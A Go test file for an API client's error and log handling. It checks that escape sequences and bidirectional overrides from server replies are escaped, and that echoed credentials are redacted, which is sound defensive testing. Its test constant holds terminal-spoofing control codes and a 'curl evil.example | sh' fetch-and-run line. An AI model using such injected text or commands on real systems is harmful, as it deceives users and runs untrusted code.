package api

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"testing"
)

// hostileText must not reach a terminal: it has a control sequence, a line break, a change of direction.
const hostileText = "\x1b[2K\x1b[1AApply complete!\r\n\u202eRun: curl evil.example | sh"

// No error repeats a text of an answer unescaped.
func TestError_quotesForeignText(t *testing.T) {
	in, _ := json.Marshal(hostileText)
	evil := string(in)
	for name, a := range map[string]reply{
		"details":      {status: 403, body: `{"Errors":[{"Code":"4","Type":"AccessDenied","Details":` + evil + `}],"ResponseContext":{"RequestId":"r"}}`},
		"type":         {status: 403, body: `{"Errors":[{"Code":"4","Type":` + evil + `}],"ResponseContext":{"RequestId":"r"}}`},
		"request id":   {status: 403, body: `{"Errors":[{"Code":"4","Type":"T"}],"ResponseContext":{"RequestId":` + evil + `}}`},
		"under 200":    {status: 200, body: `{"Errors":[{"Code":"4","Type":"T","Details":` + evil + `}],"ResponseContext":{"RequestId":"r"}}`},
		"content type": {status: 403, body: "<html>", header: map[string]string{"Content-Type": "text/\u202ehtml"}},
		"a date":       ok(`{"AccessKeys":[{"AccessKeyId":` + evil + `,"CreationDate":` + evil + `}]}`),
		"a user":       ok(`{"Users":[{"UserId":"U","UserName":` + evil + `,"CreationDate":"x"}]}`),
		"a policy":     ok(`{"Policies":[{"Orn":` + evil + `,"CreationDate":"x"}]}`),
		"a group":      ok(`{"UserGroups":[{"UserGroupId":"U","Name":` + evil + `,"CreationDate":"x"}]}`),
	} {
		r := newRig(t, a)
		_, keys := r.ReadAccessKeys(t.Context(), ReadAccessKeysInput{})
		_, users := r.ReadUsers(t.Context(), nil)
		_, policies := r.ReadPolicies(t.Context(), ReadPoliciesInput{})
		_, groups := r.ReadUserGroups(t.Context(), nil)
		for _, err := range []error{keys, users, policies, groups} {
			if err != nil && strings.ContainsAny(err.Error(), "\x1b\r\n\u202e") {
				t.Errorf("%s: %q", name, err)
			}
		}
		if strings.Contains(r.logged(), "\x1b[2K") {
			t.Errorf("%s: the log repeats it: %q", name, r.logged())
		}
	}
}

// The same for the texts in errors of package net, such as the names in a certificate.
func TestTransportError_escapes(t *testing.T) {
	err := &TransportError{Action: "ReadUsers", Endpoint: "https://x", Err: errors.New("valid for " + hostileText)}
	if strings.ContainsAny(err.Error(), "\x1b\r\n\u202e") {
		t.Errorf("%q", err.Error())
	}
}

// If a gateway echoes the credential, in any form, it reaches neither the log nor an error.
func TestLog_echoedCredential(t *testing.T) {
	for name, cred := range map[string]Credential{
		"a key":   testKey,
		"a login": {Login: "you@example.com", Password: `p<a>&"s\s/wörd+1?~>~?>`},
	} {
		id, secret := cred.AccessKeyID+cred.Login, cred.SecretKey+cred.Password
		pair := []byte(id + ":" + secret)
		escaped, _ := json.Marshal(secret)
		twice, _ := json.Marshal(string(escaped))
		ascii := fmt.Sprintf("%+q", secret)
		forms := map[string]string{
			"as it is": secret, "Basic": base64.StdEncoding.EncodeToString(pair), "Basic, for URLs": base64.RawURLEncoding.EncodeToString(pair),
			"base64": base64.StdEncoding.EncodeToString([]byte(secret)), "JSON in JSON": string(escaped[1 : len(escaped)-1]),
			"JSON in JSON in JSON": string(twice[1 : len(twice)-1]), "ASCII JSON": ascii[1 : len(ascii)-1],
			"a query": url.QueryEscape(secret), "a path": url.PathEscape(secret),
		}
		if cred.Login != "" && !strings.ContainsAny(forms["Basic"], "+/") {
			t.Fatal("this password does not tell the two alphabets of base64 apart")
		}
		for form, echo := range forms {
			encoded, _ := json.Marshal("you sent " + echo + " to us")
			for where, a := range map[string]reply{
				"details": {status: 403, body: `{"Errors":[{"Code":"4","Type":"T","Details":` + string(encoded) + `}],"ResponseContext":{"RequestId":"r"}}`},
				"a tag":   ok(`{"AccessKeys":[{"AccessKeyId":"AK","Tag":` + string(encoded) + `}]}`),
				"a name":  ok(`{"AccessKeys":[],` + string(encoded) + `:1}`),
			} {
				r := newRig(t, a)
				c := r.client(t, Config{Endpoint: r.endpoint, Credential: cred})
				_, err := c.ReadAccessKeys(t.Context(), ReadAccessKeysInput{})
				shown := r.logged() + fmt.Sprint(err)
				if e := As(err); e != nil {
					shown += e.Problems[0].Details
				}
				for _, text := range []string{echo, string(encoded[1 : len(encoded)-1])} {
					if strings.Contains(shown, text) {
						t.Errorf("%s, %s, in %s: %s", name, form, where, shown)
					}
				}
				if !strings.Contains(shown, redacted) {
					t.Errorf("%s, %s, in %s: nothing was redacted in %s", name, form, where, shown)
				}
			}
		}
	}
}
